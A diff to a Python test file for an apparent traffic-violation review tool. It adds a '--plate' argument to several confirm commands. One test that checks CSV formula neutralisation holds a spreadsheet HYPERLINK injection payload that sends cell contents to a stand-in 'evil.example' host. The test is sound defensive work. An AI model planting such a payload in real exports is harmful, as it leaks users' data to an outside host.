@@ -77,7 +77,7 @@ def _violation(db, run_id: int, n: int, *, t: float, x: float, time_source: str 
 
 def test_time_unknown_cannot_be_confirmed_by_the_cli_or_the_web(db, run, users, login):
     pid = _violation(db, _run(db, "d", "unknown"), 1, t=20.0, x=300, time_source="unknown")
-    r = run("review", "confirm", pid, "--as", "rita")
+    r = run("review", "confirm", pid, "--as", "rita", "--plate", "30K-559.78")
     assert r.exit_code == 2 and "the time of the offence is unknown" in r.stderr
     page = login("rita").get(f"/violations/{pid}")
     assert "time unknown" in page.text and "cannot be confirmed" in page.text
@@ -100,7 +100,7 @@ def test_the_camera_time_is_shown_in_its_zone(db, users, login):
 def test_csv_cells_that_start_a_formula_are_neutralised(db, run, users, tmp_path):
     pid = _violation(db, _run(db, "d"), 1, t=20.0, x=300)
     note = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-    assert run("review", "confirm", pid, "--as", "rita", "--note", note).exit_code == 0
+    assert run("review", "confirm", pid, "--as", "rita", "--plate", "30K-559.78", "--note", note).exit_code == 0
     out = tmp_path / "notice.csv"
     assert run("export", "-o", str(out)).exit_code == 0
     row = next(csv.DictReader(out.open(encoding="utf-8")))
@@ -138,7 +138,7 @@ def test_one_offence_seen_by_two_runs_is_one_row(db, run, users, tmp_path):
     b = [_violation(db, second, 3, t=20.5, x=306), _violation(db, second, 4, t=20.3, x=415),
          _violation(db, second, 5, t=35.0, x=300)]  # fmt: skip
     for pid in a + b:
-        assert run("review", "confirm", pid, "--as", "rita").exit_code == 0
+        assert run("review", "confirm", pid, "--as", "rita", "--plate", "30K-559.78").exit_code == 0
     rows = export_rows(db, QueueFilter(status=ViolationStatus.CONFIRMED))
     assert [(r["public_id"], r["also_recorded_as"]) for r in rows] == [(a[0], [b[0]]), (a[1], [b[1]]), (b[2], [])]
     out = tmp_path / "notice.csv"
